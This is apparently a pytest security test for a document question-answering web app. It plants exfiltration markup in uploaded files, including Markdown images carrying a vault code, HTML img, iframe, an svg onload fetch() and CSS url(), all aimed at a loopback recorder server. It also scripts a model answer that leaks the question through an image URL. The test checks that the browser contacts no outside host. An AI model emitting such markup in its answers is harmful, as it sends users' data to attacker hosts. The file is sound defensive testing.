"""A document (or a model it steers) must never make the user's browser contact another
host: a real `sourcechat serve`, real headless Chromium, and a loopback "outside" server
that records every request it gets. Documents plant Markdown images, reference-style
images, HTML <img>, <iframe>, <svg onload> and CSS url(); a stand-in capable model
answers with a Markdown image whose URL carries the question. The answers, the sources
(under the answer and beside it) and the document viewer are all opened; the outside
server must have received nothing, and the planted text must still be visible as text.
"""

from __future__ import annotations

import threading
import urllib.request
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import unquote

import pytest

from tests.serving import running_serve
from tests.standin import standin_server
from tests.test_browser import ANSWER_TIMEOUT_MS, CHROMIUM, CHROMIUM_ARGS
from ui.security import CONTENT_SECURITY_POLICY

pytestmark = pytest.mark.slow


@contextmanager
def outside_server():
    """An HTTP server on loopback that records every request path (and answers 200)."""
    seen: list[str] = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's naming
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def planted(out: str) -> dict[str, tuple[str, str, str]]:
    """file name -> (text, question, words the answer must show)."""
    return {
        "vault.md": (f"The vault access code for the Lisbon office is 4471 "
                     f"![status]({out}/md-image.png?code=4471) and it changes monthly.\n",
                     "What is the vault access code for the Lisbon office?", "4471"),
        "parking.md": (f"Staff parking in Oslo uses bay number 38 ![logo][r] behind the depot.\n\n"
                       f"[r]: {out}/ref-image.png\n",
                       "Which bay number does staff parking in Oslo use?", "38"),
        "wifi.txt": (f'The Berlin guest wifi password is kestrel-9 <img src="{out}/html-img.png">'
                     " for visitors.\n",
                     "What is the Berlin guest wifi password?", "kestrel-9"),
        "alarm.md": (f'The Rome alarm is disarmed with code 5120 <iframe src="{out}/iframe">'
                     f"</iframe> every morning.\n",
                     "What code disarms the Rome alarm?", "5120"),
        "locker.txt": (f"The Madrid locker combination is 7731 <svg onload=\"fetch('{out}/svg')\">"
                       "</svg> for the cleaning staff.\n",
                       "What is the Madrid locker combination?", "7731"),
        "handbook.md": (f"The Vienna staff handbook is published at {out}/handbook.html for "
                        f"every employee, see [the portal]({out}/portal).\n",
                        "Where is the Vienna staff handbook published?", "handbook.html"),
        "badge.md": (f'The Paris badge office opens at 8 am <div style="background:url({out}'
                     f'/css.png)">x</div> on weekdays.\n',
                     "When does the Paris badge office open?", "8 am"),
    }


def _login_free_page(p):
    browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
    page = browser.new_page(viewport={"width": 1400, "height": 950})
    page.set_default_timeout(ANSWER_TIMEOUT_MS)
    return browser, page


def _ask_and_open_everything(page, question: str) -> str:
    n_before = page.locator('#chat [data-testid="bot"]').count()
    box = page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        "n => document.querySelectorAll('#chat [data-testid=\"bot\"]').length > n", arg=n_before)
    page.get_by_role("tab", name="Sources").click()
    page.wait_for_function(
        "q => document.querySelector('#sources .sc-source, #sources .sc-closest') !== null",
        arg=question)
    page.wait_for_timeout(300)
    answer = page.locator('#chat [data-testid="bot"]').nth(n_before).inner_text()
    for toggle in page.locator("#chat button", has_text="Sources").all():
        toggle.click()  # the collapsible sources under each answer
    links = page.locator("#sources a[href^='#view-']")
    if links.count():
        links.first.click()  # the document viewer
        page.wait_for_selector("#viewer mark")
    page.wait_for_timeout(500)
    return answer


def test_planted_markup_never_reaches_another_host(tmp_path, model_cache):
    from playwright.sync_api import sync_playwright

    env = {"SOURCECHAT_DATA_DIR": str(tmp_path / "data"),
           "SOURCECHAT_MODEL_CACHE_DIR": str(model_cache)}
    docs = tmp_path / "docs"
    docs.mkdir()
    with outside_server() as (out, seen), sync_playwright() as p:
        cases = planted(out)
        for name, (text, _, _) in cases.items():
            (docs / name).write_text(text)
        with running_serve(tmp_path, "--llm", "extractive", env=env) as url:
            with urllib.request.urlopen(url) as r:  # the page response carries the CSP
                assert r.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
                assert r.headers["X-Content-Type-Options"] == "nosniff"
            browser, page = _login_free_page(p)
            try:
                page.goto(url, wait_until="networkidle")
                page.get_by_role("tab", name="Documents").click()  # uploaded, as a user's
                page.locator("#upload input[type=file]").set_input_files(
                    [str(docs / n) for n in cases])
                page.wait_for_selector("#upload-status :text('Indexed 7 file(s)')")
                page.get_by_role("tab", name="Chat").click()
                for name, (_, question, shown) in cases.items():
                    answer = _ask_and_open_everything(page, question)
                    assert shown in answer, (name, answer)
                    viewer = page.locator("#viewer").inner_text()
                    assert name in viewer and shown in viewer, name
                chat = page.locator("#chat").inner_text()
                # still visible to the user, as text
                assert "md-image.png" in chat and "<img" in chat and "<iframe" in chat
                assert "onload" in chat
                # a link in a document shows its URL, opens only on click, in a new
                # context: the visible text is the address it goes to
                for link in page.locator("#chat a[href^='http']").all():
                    assert unquote(link.get_attribute("href")) == link.inner_text()
                    assert {"noopener", "noreferrer"} <= set(link.get_attribute("rel").split())
                assert page.locator("#chat a[href$='/handbook.html']").count() >= 1
                # a Markdown link never hides its address behind its words
                assert page.locator("#chat a", has_text="the portal").count() == 0
            finally:
                browser.close()
        assert seen == [], f"the browser contacted the outside server: {seen}"

        # a capable model steered by a document answers with an image carrying the question
        steered = ("The vault access code for the Lisbon office is 4471 "
                   f"![ok]({out}/leak?q=vault+access+code+Lisbon) [1].")
        with standin_server("scripted", steered) as model, running_serve(
                tmp_path, "--llm", "openai:standin", "--llm-base-url", model.base_url,
                env=env) as url:
            browser, page = _login_free_page(p)
            try:
                page.goto(url, wait_until="networkidle")
                answer = _ask_and_open_everything(
                    page, "What is the vault access code for the Lisbon office?")
                assert "4471" in answer
                assert model.requests, "the stand-in model was asked"
            finally:
                browser.close()
        assert seen == [], f"the browser contacted the outside server: {seen}"
